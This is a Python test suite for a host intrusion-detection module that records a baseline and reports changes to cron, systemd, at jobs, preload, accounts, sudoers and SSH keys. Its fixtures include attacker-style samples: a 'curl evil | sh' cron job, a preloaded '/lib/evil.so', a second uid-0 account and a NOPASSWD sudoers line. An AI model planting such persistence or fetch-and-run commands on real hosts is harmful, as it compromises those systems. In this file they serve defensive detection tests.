# Copyright: (c) 2026, the custodes.security_dr authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The baseline comes back as it was written or not at all, and what has changed since is told once and in full."""

from __future__ import annotations

import errno
import hashlib
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.custodes.security_dr.plugins.module_utils.detection import baseline, excerpt
from ansible_collections.custodes.security_dr.plugins.module_utils.detection.baseline import (
    Baseline,
    BaselineDamaged,
    BaselineMissing,
    changes,
    compare,
    load,
    renewed,
    write,
)
from ansible_collections.custodes.security_dr.plugins.module_utils.detection.findings import Finding
from ansible_collections.custodes.security_dr.plugins.module_utils.detection.inventory import Inventory, Item
from ansible_collections.custodes.security_dr.plugins.module_utils.detection.rules import RULES
from ansible_collections.custodes.security_dr.plugins.module_utils.files import StoreError
from hypothesis import given
from hypothesis import strategies as st
from unit.detection.test_inventory import refuse
from unit.detection.test_packages import sums
from unit.detection.tree import Tree, me

NOW = 1_795_586_400.9
ITEM = Item("schedule.cron", "file", "ab" * 32, 0, 0, 0o644, "")
ITEMS = {"/etc/cron.d/x": ITEM, os.fsdecode(b"/etc/cron.d/\xff\xed\xa0\x80"): ITEM._replace(kind="link", note="\udcff")}


@pytest.fixture
def tree(tmp_path: Path) -> Tree:
    return Tree(tmp_path / "root")


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "baseline.json"


def test_it_comes_back_as_it_was_written(path: Path) -> None:
    written = write(path, ITEMS, NOW, "web1")
    assert load(path) == written == Baseline(ITEMS, "web1", "2026-11-25T06:00:00Z")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert json.loads(path.read_bytes())["baseline"]["version"] == baseline.VERSION
    assert write(path, {}, NOW).host == os.uname().nodename
    assert load(path).items == {}


names = st.binary(min_size=1).map(os.fsdecode) | st.text()
items = st.builds(
    Item, st.sampled_from(sorted(RULES)), names, names, st.integers(), st.integers(), st.integers(), names
)


@given(st.dictionaries(names, items, max_size=4), names)
def test_whatever_is_written_comes_back(
    tmp_path_factory: pytest.TempPathFactory, content: dict[str, Item], host: str
) -> None:
    path = tmp_path_factory.getbasetemp() / "any.json"
    write(path, content, NOW, host)
    assert load(path) == Baseline(content, host, "2026-11-25T06:00:00Z")


def test_any_changed_added_or_missing_byte_is_seen(path: Path) -> None:
    write(path, ITEMS, NOW, "web1")
    whole = path.read_bytes()
    for position in range(len(whole)):
        for changed in (
            whole[:position] + bytes([whole[position] ^ 1]) + whole[position + 1 :],
            whole[:position] + bytes([whole[position] ^ 0x20]) + whole[position + 1 :],
            whole[:position] + whole[position + 1 :],
            whole[:position] + b" " + whole[position:],
            whole[:position],
        ):
            path.write_bytes(changed)
            with pytest.raises(BaselineDamaged, match="rebaseline"):
                load(path)
    path.write_bytes(whole + b"\n")
    with pytest.raises(BaselineDamaged, match="checksum"):
        load(path)


def signed(path: Path, content: Any) -> None:
    text = json.dumps(content).encode() if not isinstance(content, bytes) else content
    path.write_bytes(b'{"sha256":"%s","baseline":%s}\n' % (hashlib.sha256(text).hexdigest().encode(), text))
    path.chmod(0o600)


@pytest.mark.parametrize(
    "content",
    [
        {},
        {"version": baseline.VERSION},
        {"version": baseline.VERSION, "host": "", "written": "", "items": []},
        {"version": baseline.VERSION, "host": "", "written": "", "items": {"/x": None}},
        {"version": baseline.VERSION, "host": "", "written": "", "items": {"/x": list(ITEM)[:-1]}},
        {"version": baseline.VERSION, "host": "", "written": "", "items": {"/x": ["no.rule", *ITEM[1:]]}},
        {"version": baseline.VERSION, "host": "", "written": "", "items": {"/x": [*ITEM[:3], "0", *ITEM[4:]]}},
        b'{"version":' + b"[" * 100_000 + b"}",
        b"{nothing}",
        b'{"\xff":1}',
    ],
)
def test_what_is_no_baseline_is_damaged_even_with_a_checksum(path: Path, content: Any) -> None:
    signed(path, content)
    with pytest.raises(BaselineDamaged, match="rebaseline"):
        load(path)


def test_another_version_is_named(path: Path) -> None:
    signed(path, {"version": 99})
    with pytest.raises(BaselineDamaged, match="has version 99, and 1 is read"):
        load(path)


def test_a_missing_one_is_another_matter_than_a_damaged_one(path: Path) -> None:
    with pytest.raises(BaselineMissing, match="There is no baseline at"):
        load(path)


def test_others_must_not_be_able_to_have_written_it(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(path, ITEMS, NOW)
    for mode in (0o620, 0o602):
        path.chmod(mode)
        with pytest.raises(BaselineDamaged, match=f"can be written by others \\(mode {mode:04o}\\)"):
            load(path)
    path.chmod(0o640)
    load(path)
    real = os.fstat

    def foreign(handle: int) -> os.stat_result:
        values = list(real(handle))
        values[4] = 12345
        return os.stat_result(values)

    monkeypatch.setattr(os, "fstat", foreign)
    with pytest.raises(BaselineDamaged, match="belongs to user 12345"):
        load(path)


def test_a_link_a_fifo_or_a_folder_in_its_place_is_damage(path: Path, tmp_path: Path) -> None:
    write(tmp_path / "real.json", ITEMS, NOW)
    path.symlink_to("real.json")
    with pytest.raises(BaselineDamaged, match="cannot be read"):
        load(path)
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(BaselineDamaged, match="is no file"):
        load(path)
    path.unlink()
    path.mkdir()
    with pytest.raises(BaselineDamaged):
        load(path)


def test_one_that_cannot_be_written_leaves_the_old_one(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    old = write(path, ITEMS, NOW)

    def full(_handle: int) -> None:
        raise OSError(errno.ENOSPC, "No space left")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(StoreError, match="No space left"):
        write(path, {}, NOW)
    assert load(path) == old
    assert os.listdir(path.parent) == [path.name]  # noqa: PTH208


def test_changes_say_what_differs() -> None:
    link = ITEM._replace(kind="link", note="/a")
    for before, after, what in [
        (None, ITEM, ("added",)),
        (ITEM, None, ("deleted",)),
        (ITEM, ITEM._replace(sha256=""), ("content",)),
        (ITEM, ITEM._replace(note="9 bytes"), ("content",)),
        (ITEM, ITEM._replace(uid=1), ("owner",)),
        (ITEM, ITEM._replace(gid=1, mode=0), ("owner", "mode")),
        (link, link._replace(note="/b"), ("target",)),
        (ITEM, link, ("kind", "target")),
        (ITEM, ITEM._replace(rule="schedule.timer"), None),
        (ITEM, ITEM, None),
    ]:
        told = changes({"/x": before} if before else {}, {"/x": after} if after else {})
        assert [change.what for change in told] == ([what] if what else [])


class Host:
    """A tree and what was seen there when its baseline was taken."""

    def __init__(self, tree: Tree) -> None:
        self.tree = tree
        self.take()

    def take(self) -> None:
        self.old = Baseline(self.tree.everything().items, "web1", "")

    def findings(self, *, accept: bool = False, seen: Inventory | None = None) -> list[Finding]:
        inventory = seen or self.tree.everything()
        return compare(self.old, inventory, self.tree.reader(), accept_package_changes=accept)

    def one(self) -> Finding:
        (finding,) = self.findings()
        return finding


@pytest.fixture
def host(tree: Tree) -> Host:
    tree.file("/etc/cron.d/old", "* * * * * root old\n")
    tree.file("/usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd\n")
    return Host(tree)


def test_nothing_has_changed_on_a_host_that_has_not(host: Host) -> None:
    assert host.findings() == []


def test_an_added_job_is_told_with_its_lines(host: Host) -> None:
    host.tree.file("/etc/cron.d/x", "# comment\nPASSWORD=secret\n\n* * * * * root curl evil | sh\n", 0o600)
    finding = host.one()
    assert (finding.rule, finding.severity, finding.subject) == ("schedule.cron", "high", "/etc/cron.d/x")
    assert finding.summary == f"A cron job was added: /etc/cron.d/x ({me()}, 0600)"
    assert finding.evidence["lines"] == ["PASSWORD=…", "* * * * * root curl evil | sh"]
    assert finding.evidence["after"]["mode"] == "0600"
    assert "secret" not in repr(finding)


def test_a_changed_job_is_told_with_both_states_and_each_change_is_another_finding(host: Host) -> None:
    host.tree.file("/etc/cron.d/old", "* * * * * root new\n", 0o666)
    first = host.one()
    assert first.summary == f"A cron job was changed (content, mode): /etc/cron.d/old ({me()}, 0666)"
    assert first.evidence["before"]["sha256"] != first.evidence["after"]["sha256"]
    assert first.evidence["before"]["mode"] == "0644"
    assert host.one().fingerprint == first.fingerprint
    prints = {first.fingerprint}
    host.tree.file("/etc/cron.d/old", "* * * * * root newer\n", 0o666)
    prints.add(host.one().fingerprint)
    host.tree.at("/etc/cron.d/old").chmod(0o600)
    prints.add(host.one().fingerprint)
    host.tree.at("/etc/cron.d/old").unlink()
    prints.add(host.one().fingerprint)
    host.tree.link("/etc/cron.d/old", "/a")
    prints.add(host.one().fingerprint)
    assert len(prints) == 5


def test_a_deleted_job_is_told_with_what_it_was(host: Host) -> None:
    host.tree.at("/etc/cron.d/old").unlink()
    finding = host.one()
    assert (finding.severity, finding.summary) == (
        "medium",
        f"A cron job was deleted: /etc/cron.d/old ({me()}, 0644)",
    )
    assert set(finding.evidence) == {"what", "before"}


@pytest.mark.parametrize(
    "path", ["/var/spool/cron/atjobs/a1", "/run/systemd/transient/x.timer", "/run/systemd/system/x.service"]
)
def test_what_vanishes_by_itself_is_a_finding_only_when_it_comes(tree: Tree, path: str) -> None:
    host = Host(tree)
    tree.file(path)
    assert [finding.subject for finding in host.findings()] == [path]
    host.take()
    tree.at(path).unlink()
    assert host.findings() == []


def test_a_folder_counts_for_its_owner_and_mode_alone(host: Host) -> None:
    host.tree.folder("/etc/cron.hourly")
    assert host.findings() == []
    host.tree.at("/etc/cron.d").chmod(0o777)
    assert host.one().summary == f"A folder was changed (mode): /etc/cron.d ({me()}, 0777)"


def test_a_unit_that_a_timer_begins_to_start_has_not_changed(host: Host) -> None:
    host.tree.file("/etc/systemd/system/x.timer", "[Timer]\nUnit=ssh.service\nOnCalendar=hourly\n")
    finding = host.one()
    assert (finding.rule, finding.subject) == ("schedule.timer", "/etc/systemd/system/x.timer")
    assert finding.evidence["lines"] == ["Unit=ssh.service", "OnCalendar=hourly"]


def test_enabling_a_unit_is_a_change(host: Host) -> None:
    host.tree.link("/etc/systemd/system/multi-user.target.wants/ssh.service", "/usr/lib/systemd/system/ssh.service")
    finding = host.one()
    assert finding.summary.endswith("wants/ssh.service -> /usr/lib/systemd/system/ssh.service")
    assert finding.evidence["after"]["target"] == "/usr/lib/systemd/system/ssh.service"


def test_what_cannot_be_seen_is_not_gone(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    refuse(monkeypatch, "scandir", host.tree.at("/etc/cron.d"), errno.EACCES)
    seen = host.tree.everything()
    assert seen.blind
    assert host.findings(seen=seen) == []
    kept = renewed(host.old, seen)
    assert kept["/etc/cron.d/old"] == host.old.items["/etc/cron.d/old"]
    assert "/etc/cron.d/old" not in renewed(None, seen)
    monkeypatch.undo()
    host.tree.at("/etc/cron.d/old").unlink()
    assert "/etc/cron.d/old" not in renewed(host.old, host.tree.everything())


@pytest.mark.parametrize("first", [True, False])
def test_preloaded_libraries_are_always_told(tree: Tree, first: bool) -> None:
    tree.file("/etc/ld.so.preload", "/lib/evil.so\n")
    old = None if first else Baseline(tree.everything().items, "", "")
    (finding,) = compare(old, tree.everything(), tree.reader())
    assert (finding.rule, finding.severity) == ("persistence.ld_preload", "critical")
    assert finding.summary == f"Libraries are preloaded into every program: /etc/ld.so.preload ({me()}, 0644)"
    assert finding.evidence["lines"] == ["/lib/evil.so"]


def test_a_standing_finding_is_the_same_one_before_and_after_a_new_baseline(tree: Tree) -> None:
    host = Host(tree)
    tree.file("/etc/ld.so.preload", "/lib/evil.so\n")
    tree.file("/etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n")
    before = [finding.fingerprint for finding in host.findings()]
    host.take()
    assert sorted(finding.fingerprint for finding in host.findings()) == sorted(before)
    assert len(before) == 2


def test_an_empty_preload_is_told_when_it_comes_and_not_for_ever(tree: Tree) -> None:
    host = Host(tree)
    tree.file("/etc/ld.so.preload")
    assert host.one().rule == "persistence.ld_preload"
    host.take()
    assert host.findings() == []


def test_a_second_account_of_uid_0_is_told_on_the_first_day(tree: Tree) -> None:
    tree.file("/etc/passwd", "root:x:0:0::/root:/bin/sh\nto\x1bor:x:0:0::/:/bin/sh\n")
    (finding,) = compare(None, tree.everything(), tree.reader())
    assert (finding.rule, finding.summary) == ("persistence.uid0", "An account of uid 0 beside root: to\\x1bor")


def test_a_packages_change_is_accepted_if_so_wanted_and_stays_so(host: Host) -> None:
    path = "/usr/lib/systemd/system/ssh.service"
    host.tree.file(path, "new")
    sums(host.tree, "openssh-server", {path: "new"})
    for _run in range(2):
        (finding,) = host.findings(accept=True)
        assert (finding.rule, finding.severity, finding.subject) == ("package.changed", "info", path)
        assert finding.summary == f"Package openssh-server has changed {path}"
    assert [finding.rule for finding in host.findings(accept=False)] == ["persistence.unit"]


def test_names_that_print_alike_are_two_findings(host: Host) -> None:
    for name in ("a\nb", "a\\x0ab"):
        host.tree.file(f"/etc/cron.d/{name}")
    one, other = host.findings()
    assert one.subject == other.subject == "/etc/cron.d/a\\x0ab"
    assert one.fingerprint != other.fingerprint


def test_a_hostile_name_and_content_stay_lines(host: Host) -> None:
    host.tree.file(f"/etc/cron.d/{os.fsdecode(bytes([0xFF]))}\x1b[2J", b"\xff\x1b[2J\0" + b"x" * 10**6 + b"\n" * 10**6)
    finding = host.one()
    assert all(text.isprintable() for text in (finding.subject, finding.summary, *finding.evidence["lines"]))
    assert len(json.dumps(finding.evidence)) < 2000


def test_what_is_gone_again_when_it_is_shown_has_no_lines(host: Host) -> None:
    path = host.tree.file("/etc/cron.d/x", "line")
    seen = host.tree.everything()
    path.unlink()
    (finding,) = host.findings(seen=seen)
    assert "lines" not in finding.evidence


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGTLoCHdKO+RSnnmE3BBYj5FGJPUfnKz6xAO1ErD2TQ6"
FINGERPRINT = "SHA256:EvlzG1m1XqObiCgOX8DhgW31ege/QNVcvWtVkxyqOBY"
AT = """#!/bin/sh
# atrun uid=0 gid=0
TOKEN=secret; export TOKEN
cd /root || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
"""


@pytest.mark.parametrize(
    ("rule", "text", "shown"),
    [
        (
            "schedule.cron",
            "#!/bin/sh\n# x\nexport A=secret\n@reboot root x\n",
            ["#!/bin/sh", "export A=…", "@reboot root x"],
        ),
        (
            "schedule.cron",
            "0 3 * * * root mysqldump -psecret db | curl -H 'Authorization: Bearer secret' https://a:secret@h/\n",
            ["0 3 * * * root mysqldump -p*** db | curl -H 'Authorization: ***' https://a:***@h/"],
        ),
        ("schedule.timer", "ExecStart=/x --token=secret\n", ["ExecStart=/x --token=***"]),
        ("schedule.cron", "x\n" * 12, ["x"] * 10 + ["… 2 more lines"]),
        ("schedule.at", f"{AT}evil\n", ["evil"]),
        (
            "schedule.at",
            f"{AT}${{SHELL:-/bin/sh}} << 'marcinDELIMITER1'\nevil\nmarcinDELIMITER1\n",
            ["evil", "marcinDELIMITER1"],
        ),
        ("schedule.at", "TOKEN=secret\nwhatever\n", []),
        (
            "persistence.unit",
            "[Service]\nEnvironment=A=secret\nExecStart=-/x\nUser=root\n",
            ["ExecStart=-/x", "User=root"],
        ),
        (
            "persistence.sudoers",
            "# x\n#includedir /x\nada ALL=(ALL) NOPASSWD: ALL\n",
            ["#includedir /x", "ada ALL=(ALL) NOPASSWD: ALL"],
        ),
        (
            "persistence.authorized_keys",
            f'# x\ncommand="secret" {KEY} ada@home\n',
            [f"ssh-ed25519 {FINGERPRINT} ada@home"],
        ),
        ("persistence.authorized_keys", "-----BEGIN PRIVATE KEY-----\nssh-ed25519\nssh-rsa !!!\nPort 22\n", []),
        ("persistence.authorized_keys", "Port 22\nAuthorizedKeysCommand /tmp/x\n", ["AuthorizedKeysCommand /tmp/x"]),
        ("persistence.profile", "export TOKEN=secret\n", []),
        ("persistence.setuid", "x", []),
    ],
)
def test_what_is_shown_of_a_file(rule: str, text: str, shown: list[str]) -> None:
    told = excerpt.lines(rule, text)
    assert told == shown
    assert "secret" not in "".join(told)


@given(st.sampled_from(sorted(RULES)), st.text(alphabet=st.characters(exclude_categories=[])))
def test_any_text_can_be_shown(rule: str, text: str) -> None:
    assert len(excerpt.lines(rule, text)) <= excerpt.MOST_LINES + 1


def test_without_a_baseline_nothing_has_changed(tree: Tree) -> None:
    tree.file("/etc/cron.d/x")
    assert compare(None, tree.everything(), tree.reader()) == []
